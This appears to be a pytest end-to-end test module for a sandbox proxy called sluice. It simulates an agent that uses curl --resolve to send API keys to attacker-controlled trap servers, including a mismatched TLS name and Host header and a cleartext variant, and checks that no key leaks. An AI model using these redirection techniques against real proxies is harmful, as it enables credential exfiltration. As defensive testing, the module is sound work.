"""Attacks from inside `sluice sandbox`: an agent that ignores DNS and connects straight to an address of its
choosing, naming a credential host in its TLS server name and Host.

In transparent mode the address a connection was headed for is the client's choice, so sluice must never
send a credential there: for a credential host it connects to the configured name, resolved by itself, on
the configured port, with that name in the handshake. The attacker's servers stand in a network namespace
this module creates (`TrapNamespace`), with the test CA's certificate for the provider names (which the
sandbox's mitmdump trusts upstream, as it would trust a real attacker's valid certificate) and keep every
byte they receive.

One sandbox runs every attack (curl, the real binary, with no proxy variables) and writes what each got;
the tests read those results, the traps, the fake provider and the database.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.e2e.harness import CertAuthority, make_test_ca, rows
from tests.e2e.sandboxing import SKIP_REASON, TrapNamespace, run_sandbox, sandbox_env
from tests.fake_provider import FakeProvider, RecordedRequest
from tests.hostile.support import (
    ANT_KEY,
    ANTHROPIC_AUTH,
    CHAT,
    CONFIG,
    ENV,
    MESSAGE,
    OAI_KEY,
    OPENAI_AUTH,
    REAL_KEYS,
)
from tests.hostile.traps import Trap

pytestmark = [pytest.mark.e2e, pytest.mark.skipif(SKIP_REASON is not None, reason=SKIP_REASON or "")]

ALLOWED = "allowed.sluice.test"
SANDBOX_CONFIG = CONFIG + f'\n[sandbox]\nallow = ["{ALLOWED}:443"]\n'


def attack(name: str, *curl: str) -> str:
    """A shell line: run curl and keep its HTTP status (000 when there was none) in `name`.status."""
    quoted = " ".join(f"'{arg}'" for arg in curl)
    return f"curl -sS --max-time 15 -o {name}.body -w '%{{http_code}}' {quoted} > {name}.status 2> {name}.err"


@dataclass
class Outcome:
    workdir: Path
    traps: list[Trap]
    allowed: Trap
    fake_requests: list[RecordedRequest]

    def status(self, name: str) -> str:
        return (self.workdir / f"{name}.status").read_text()

    def trap_connections(self) -> int:
        return sum(trap.connections for trap in self.traps)


@pytest.fixture(scope="module")
def outcome(
    tmp_path_factory: pytest.TempPathFactory, fake_server: FakeProvider, test_ca: CertAuthority
) -> Iterator[Outcome]:
    workdir = tmp_path_factory.mktemp("sandbox-escape")
    fake_server.reset()
    tls = {"certfile": test_ca.leaf_cert, "keyfile": test_ca.leaf_key}
    own = make_test_ca(workdir / "allowed-ca", names=(ALLOWED,))
    with TrapNamespace() as ns, Trap(certfile=own.leaf_cert, keyfile=own.leaf_key) as allowed:
        traps = [
            ns.serve(lambda: Trap(host=ns.address, port=443, **tls)),
            ns.serve(lambda: Trap(host=ns.address, port=8443, **tls)),
            ns.serve(lambda: Trap(host=ns.address, port=80)),
        ]
        for trap in traps:
            trap.__enter__()
        trap = ns.address
        script = "; ".join(
            [
                # Straight to the attacker's address, naming the credential host: TLS server name and Host.
                attack(
                    "anthropic",
                    *("--resolve", f"api.anthropic.com:443:{trap}", *ANTHROPIC_AUTH),
                    *("-H", "content-type: application/json", "-d", MESSAGE),
                    "https://api.anthropic.com/v1/messages",
                ),
                attack(
                    "openai",
                    *("--resolve", f"api.openai.com:443:{trap}", *OPENAI_AUTH),
                    *("-H", "content-type: application/json", "-d", CHAT),
                    "https://api.openai.com/v1/chat/completions",
                ),
                attack(
                    "gateway",
                    *("--resolve", f"gateway.sluice.test:8443:{trap}", *OPENAI_AUTH),
                    *("-H", "content-type: application/json", "-d", CHAT),
                    "https://gateway.sluice.test:8443/v1/chat/completions",
                ),
                # The TLS server name says one credential host, the Host header another.
                attack(
                    "mismatch",
                    *("--resolve", f"api.anthropic.com:443:{trap}", *OPENAI_AUTH),
                    *("-H", "Host: api.openai.com"),
                    *("-H", "content-type: application/json", "-d", CHAT),
                    "https://api.anthropic.com/v1/chat/completions",
                ),
                # Cleartext, on port 80, to the attacker's address.
                attack(
                    "cleartext",
                    *("--resolve", f"api.anthropic.com:80:{trap}", *ANTHROPIC_AUTH),
                    *("-H", "content-type: application/json", "-d", MESSAGE),
                    "http://api.anthropic.com/v1/messages",
                ),
                # An allowed host's name, at the attacker's address: passed through, but by name.
                attack(
                    "allowed",
                    *("--resolve", f"{ALLOWED}:443:{trap}", "--cacert", str(own.ca_cert)),
                    f"https://{ALLOWED}/allowed-marker",
                ),
                "exit 0",
            ]
        )
        env = sandbox_env(fake_server, f"{ALLOWED}:443=127.0.0.1:{allowed.port}", **ENV)
        done = run_sandbox(workdir, fake_server, SANDBOX_CONFIG, ["sh", "-c", script], env)
        assert done.returncode == 0, done.stderr
        yield Outcome(workdir, traps, allowed, list(fake_server.requests))
        for trap_server in traps:
            trap_server.__exit__()
        fake_server.reset()


@pytest.mark.parametrize(
    ("name", "host", "header", "value"),
    [
        ("anthropic", "api.anthropic.com", "x-api-key", ANT_KEY),
        ("openai", "api.openai.com", "authorization", f"Bearer {OAI_KEY}"),
    ],
)
def test_a_credential_host_at_an_attackers_address_is_reached_by_its_configured_name(
    outcome: Outcome, name: str, host: str, header: str, value: str
) -> None:
    assert outcome.status(name) == "200", (outcome.workdir / f"{name}.err").read_text()
    [request] = [r for r in outcome.fake_requests if r.sni == host]
    assert request.header(header) == value
    assert outcome.trap_connections() == 0


def test_a_credential_host_on_another_port_at_an_attackers_address_is_reached_by_name(
    outcome: Outcome,
) -> None:
    assert outcome.status("gateway") == "200", (outcome.workdir / "gateway.err").read_text()
    assert any(r.sni == "gateway.sluice.test" for r in outcome.fake_requests)


def test_no_real_key_ever_reaches_the_attackers_servers(outcome: Outcome) -> None:
    for trap in outcome.traps:
        assert trap.connections == 0 and trap.received == b""
        for key in REAL_KEYS:
            assert not trap.holds(key)


def test_a_host_that_disagrees_with_the_tls_server_name_is_misdirected(outcome: Outcome) -> None:
    assert outcome.status("mismatch") == "421"
    [row] = [r for r in rows(outcome.workdir / "sluice.db") if r["status"] == 421]
    assert "refused" in row["rules_applied"]


def test_cleartext_to_a_credential_host_is_refused(outcome: Outcome) -> None:
    assert outcome.status("cleartext") == "403"
    assert b"only sent over TLS" in (outcome.workdir / "cleartext.body").read_bytes()


def test_an_allowed_name_at_an_attackers_address_is_passed_through_to_the_name(outcome: Outcome) -> None:
    assert outcome.status("allowed") == "200", (outcome.workdir / "allowed.err").read_text()
    assert outcome.allowed.holds("GET /allowed-marker")


def test_every_request_that_reached_the_provider_carried_the_real_key_only_there(outcome: Outcome) -> None:
    hosts = sorted(r.sni or "" for r in outcome.fake_requests)
    assert hosts == ["api.anthropic.com", "api.openai.com", "gateway.sluice.test"]
